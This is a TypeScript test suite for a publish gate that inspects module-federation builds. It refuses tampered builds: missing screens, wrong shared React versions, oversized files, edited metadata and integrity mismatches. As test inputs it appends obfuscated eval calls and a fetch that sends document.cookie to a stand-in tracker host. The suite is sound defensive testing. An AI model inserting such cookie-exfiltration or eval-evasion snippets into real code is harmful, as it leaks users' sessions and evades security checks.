import { randomBytes } from 'node:crypto';
import path from 'node:path';
import { brotliCompressSync, constants } from 'node:zlib';
import { createFolderReleases } from '../api/src/outside/releases/release-store-folder.ts';
import type { HostMetadata, VersionFiles } from '../contracts/src/release/release.ts';
import { type Candidate, type Refusal, refusalsOf } from '../contracts/src/release/release-gate.ts';
import { remoteNames } from '../contracts/src/release/remotes.ts';
import { inspectBuild, integrityOf } from '../contracts/src/server/inspection/inspect-build.ts';
import { releaseNow } from './support/faults/document.ts';
import { releaseStore, siteUrl } from './support/site.ts';

/** The publish gate on real builds: what webpack made of the areas, and what somebody could do to it. */
const store = createFolderReleases(path.resolve(releaseStore));

interface Build {
  files: VersionFiles;
  bytes: Map<string, Buffer>;
}

async function liveBuild(name: string): Promise<Build> {
  const folder = `${name}/${(await releaseNow(name)).live.version}`;
  const bytes = new Map<string, Buffer>();
  for (const file of await store.files(folder)) {
    // oxlint-disable-next-line no-await-in-loop
    const content = await store.read(`${folder}/${file}`);
    if (content) bytes.set(file, content);
  }
  return { files: JSON.parse(bytes.get('release.json')!.toString('utf8')) as VersionFiles, bytes };
}

const candidateOf = ({ files, bytes }: Build): Candidate => ({ files, metadata: inspectBuild(files, bytes) });
const quick = { params: { [constants.BROTLI_PARAM_QUALITY]: 9 } };

/** The build with one file changed or added, as a build with the change would be: hashed and compressed. */
function changed({ files, bytes }: Build, file: string, text: string): Build {
  const integrity = { ...files.integrity, [file]: integrityOf(text) };
  const more: [string, Buffer][] = [
    [file, Buffer.from(text)],
    [`${file}.br`, brotliCompressSync(text, quick)],
  ];
  return { files: { ...files, integrity }, bytes: new Map([...bytes, ...more]) };
}

let host: HostMetadata;
let catalog: Build;
let live: Candidate;

beforeAll(async () => {
  host = (await (await fetch(`${siteUrl}/platform.json`)).json()) as HostMetadata;
  catalog = await liveBuild('catalog');
  live = candidateOf(catalog);
});

const refusals = (build: Build, files: Partial<VersionFiles> = {}): Refusal[] =>
  refusalsOf(candidateOf({ ...build, files: { ...build.files, ...files } }), { hosts: [host], live });
const checks = (found: Refusal[]): string[] => found.map(({ check, what }) => `${check}: ${what}`);

const fileLike = (part: string): string => [...catalog.bytes.keys()].find((file) => file.startsWith(part))!;
const textOf = (file: string): string => catalog.bytes.get(file)!.toString('utf8');

/** The build with a text in one of its scripts replaced everywhere. Throws if it is not there. */
function replaced(part: string, from: RegExp, to: string): Build {
  const file = fileLike(part);
  const text = textOf(file);
  if (!from.test(text)) throw new Error(`${file} has no ${String(from)}`);
  return changed(catalog, file, text.replaceAll(new RegExp(from, 'g'), to));
}
const appended = (code: string): Build =>
  changed(catalog, fileLike('contact.'), `${textOf(fileLike('contact.'))};${code}`);

const exposed = '__federation_expose_remote';

it.each(remoteNames)('lets the live build of %s pass', async (name) => {
  const build = candidateOf(await liveBuild(name));
  expect(refusalsOf(build, { hosts: [host], live: build })).toEqual([]);
});

it('refuses a build without two of its screens', () => {
  expect(checks(refusals(replaced(exposed, /path:"\/(contact|courseDetail)"/, 'path:void 0')))).toEqual([
    expect.stringMatching('^paths: /contact is gone'),
    expect.stringMatching('^paths: /courseDetail is gone'),
  ]);
});

it('refuses a build without its hook', () => {
  expect(checks(refusals(replaced(exposed, /\{prepare:/, '{prepared:')))).toEqual([
    "exposed module: 'prepare' of './remote' is gone; the live version has it.",
  ]);
});

it('refuses a name that the shell does not lend', () => {
  expect(checks(refusals(replaced(exposed, /\.useLocation\b/, '.useBlocker')))).toEqual([
    "shared libraries: It takes 'useBlocker' from react-router-dom; the live shell lends no such name.",
  ]);
});

it.each([
  ['eval', 'eval("1")'],
  ['eval', "globalThis['ev'+'al']('1')"],
  ["a function's constructor", "(()=>{}).constructor('return 1')()"],
])('refuses %s as `%s`', (what, code) => {
  expect(checks(refusals(appended(code)))).toEqual([expect.stringMatching(`^content security: .*${what}`)]);
});

it('refuses requests to a stranger', () => {
  expect(checks(refusals(appended("fetch('https://tracker.example/'+document.cookie)")))).toEqual([
    'connections: Its code sends requests to https://tracker.example, which it does not declare.',
  ]);
});

it('refuses what grows, and what begins with too much', () => {
  const noise = `/*${randomBytes(1_500_000).toString('base64')}*/`;
  expect(checks(refusals(changed(catalog, 'large.js', noise)))).toEqual([
    expect.stringMatching(/^bytes: All its files together have .* more than in the live version/),
  ]);
  const entry = fileLike('remoteEntry.');
  expect(checks(refusals(changed(catalog, entry, textOf(entry) + noise.slice(0, 60_000) + '*/')))).toEqual(
    expect.arrayContaining([expect.stringMatching(/^bytes: Its pages begin with .* are allowed/)]),
  );
});

it('believes no facts that were edited by hand', () => {
  const facts = JSON.stringify({ firstLoadBytes: 1, totalBytes: 1, unsafe: [], unhashed: [], platformMembers: [] });
  const bad = appended('eval("1")');
  const bytes = new Map([...bad.bytes, ['facts.json', Buffer.from(facts)] as const]);
  expect(checks(refusals({ ...bad, bytes }))).toEqual([expect.stringMatching('^content security')]);
  expect(checks(refusals(catalog, { shared: { ...catalog.files.shared, react: '^18.3.1' } }))).toEqual([
    'integrity: release.json says react ^18.3.1; its scripts ask for ^19.3.1.',
  ]);
});

it('refuses another React, whatever release.json says', () => {
  const old = replaced('remoteEntry.', /requiredVersion:"\^19\.3\.1"/, 'requiredVersion:"^18.3.1"');
  expect(checks(refusals(old))).toEqual(
    expect.arrayContaining([expect.stringMatching(/^shared libraries: react \^18\.3\.1 is needed/)]),
  );
});

it('refuses bytes that were changed after the build', () => {
  const file = fileLike('contact.');
  const bytes = new Map([...catalog.bytes, [file, Buffer.from(`${textOf(file)};fetch("/x")`)] as const]);
  expect(checks(refusals({ ...catalog, bytes }))).toEqual([
    `integrity: ${file} is missing, or is not what was built, so no browser would run it.`,
    `integrity: ${file}.br is missing, or is not what was built, so no browser would run it.`,
  ]);
});
